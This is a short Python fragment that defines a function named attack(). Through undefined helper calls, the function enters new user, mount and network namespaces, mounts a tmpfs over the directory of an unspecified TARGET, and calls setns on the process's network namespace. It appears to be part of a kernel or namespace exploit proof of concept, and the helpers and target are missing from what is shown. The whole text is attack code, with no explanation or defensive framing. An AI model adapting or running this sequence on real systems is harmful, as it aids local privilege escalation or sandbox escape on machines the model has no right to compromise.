import os

NEWUSER, NEWNS, NEWNET = 0x1000_0000, 0x2_0000, 0x4000_0000


def attack():
    each(
        lambda: kernel("unshare", NEWUSER | NEWNS | NEWNET),
        lambda: kernel("mount", b"none", os.path.dirname(TARGET).encode(), b"tmpfs", 0, None),
        lambda: kernel("unshare", NEWNS),
        lambda: kernel("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0),
    )
